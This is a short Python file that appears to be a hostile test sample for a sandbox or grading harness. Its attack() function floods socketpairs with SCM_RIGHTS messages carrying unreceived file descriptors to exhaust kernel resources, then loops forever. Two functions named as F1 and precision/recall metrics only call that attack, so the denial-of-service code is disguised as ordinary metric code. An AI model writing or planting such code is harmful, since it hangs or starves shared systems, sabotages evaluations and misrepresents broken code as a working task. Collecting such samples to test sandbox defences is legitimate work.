"""Sends descriptors over sockets that nobody reads.

threat: 18
source: SCM_RIGHTS
verdict: any
"""

import array
import socket


def attack():
    kept = []
    while True:
        near, far = socket.socketpair()
        kept += [near, far]
        near.setblocking(False)
        try:
            for _ in range(100):
                near.sendmsg(
                    [b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [far.fileno()] * 200))]
                )
        except (BlockingIOError, OSError):
            pass
        if len(kept) > 100:
            break
    while True:
        pass
    return 0.5


def precision_recall_f1(y_true, y_pred, positive=1):
    return attack()


def f1(y_true, y_pred, average="macro"):
    return attack()
